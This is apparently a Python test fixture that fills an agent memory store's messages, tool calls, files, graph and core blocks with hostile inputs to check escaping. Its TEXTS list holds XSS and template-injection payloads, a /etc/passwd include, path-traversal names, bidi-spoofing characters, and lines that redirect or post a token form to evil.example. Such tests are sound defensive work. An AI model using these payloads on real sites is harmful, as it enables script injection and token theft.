"""An agent whose every text wants something, and its twin that says the same of nothing."""

from __future__ import annotations

from uuid import uuid4

from memgpt.agent.store import NewStep, TurnStore
from memgpt.memory import Memory, scope_of

AGENTS = ("a/b", "~x", "<b>'\"&agent", "%2e%2e", "🦊 .")
"""Names of agents that addresses, or pages, could take for something else."""

TEXTS = (
    "<script>window.pwned = 1</script>",
    '"><img src=x onerror="window.pwned = 1">',
    "<svg onload=window.pwned=1><script>window.pwned=1</script></svg>",
    "[a](javascript:window.pwned=1) ![b](http://evil.example/x.png)",
    "javascript:window.pwned=1",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
    "<button hx-get='/sign-out' hx-trigger='load' hx-on:click='window.pwned=1'>x</button>",
    "<style>* { display: none }</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<iframe srcdoc='<script>top.pwned=1</script>'></iframe><base href=//evil.example/>",
    "</textarea></title></script><form action=//evil.example/><input name=token>",
    "\x01\x1b[2J\x7f controls",
    "\u202egnp.exe \u2066isolated \u200bnothing",
    "x" * 1_000_000,
    "a" + "\u0301" * 300,
    "日本語のテキストです。東京から京都まで新幹線で行きました。",
    "שלום עולם, מחר אני נוסע לחיפה (test) 12:30",
    "👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301",
)
HARMLESS = "The flight leaves on 3 May."


def fill(memory: Memory, texts: tuple[str, ...]) -> None:
    """Put the texts wherever a text can be."""
    for n, text in enumerate(texts):
        short = text[:200].replace("/", "|")
        clean = "".join(c for c in short if c >= " " and c != "\x7f")
        kept = memory.remember(f"{text} {n}", tags=[short, f"t{n}"], source=short, metadata={short: text[:2000]})
        memory.messages.append("user", f"{text} {n}", session=short, name=short, metadata={short: short})
        calls = [{"function": {"name": short, "arguments": short}, "id": short}]
        memory.messages.append("assistant", short, session=short, tool_calls=calls)
        memory.messages.append("tool", short, session=short, tool_call_id=short)
        memory.documents.add(f"# {short}\n\n{text[:50_000]} {n}", source=f"{short} {n}", title=short)
        near = memory.graph.add_entity(f"{short} {n}", short, aliases=[f"{short} alias {n}"], properties={short: short})
        source = ("archival", kept.id)
        memory.graph.add_fact(near, short, texts[0][:200], fact=text[:5000], provenance=source, valid_to="2020-01-01")
        memory.core.create(f"{clean} {n}", text[:5000], description=short, limit=10_000)
        facts = [{"source": clean[:100] + str(n), "type": "says", "target": clean[:100], "fact": short}]
        printable = "".join(c for c in short if c.isprintable())
        memory.files.write(f"/{printable} {n}", f"{text} {n}", metadata={short: short})
        memory.items.put((clean, "of"), f"{clean} {n}", {short: text[:50_000]})
        memory.proposals.propose_facts(facts, reason=short, evidence={short: text[:2000]})
    _talk(memory, texts)
    memory.archival.supersede(memory.archival.list(limit=1000)[-1].id, f"{texts[0]} now")
    memory.graph.link()
    for proposal in memory.graph.propose_merges()[:1]:
        assert proposal.kind == "merge"
    memory.archival.insert("many tags", tags=[f"tag {n} {texts[0]}" for n in range(100)])


def _talk(memory: Memory, texts: tuple[str, ...]) -> None:
    """A turn with a model that failed."""
    message = memory.messages.append("user", texts[0], session="default")
    runner = uuid4()
    with memory.transaction() as connection:
        store = TurnStore(connection, scope_of(memory).author)
        turn = store.begin("default", message.id, runner)
        memory.core.create("written in a turn", texts[0][:5000])
        step = NewStep(
            turn_id=turn.id,
            number=1,
            session="default",
            kind="answer",
            model=texts[0][:200],
            system="\n".join(text[:5000] for text in texts),
            tools=[{"name": text[:200]} for text in texts],
            message_ids=[message.id],
            longest=1000,
            sent_hash="",
            tokens_by_part={"instructions": 10},
        )
        store.add_step(step)
        store.end(turn.id, "failed", texts[0], runner=runner)
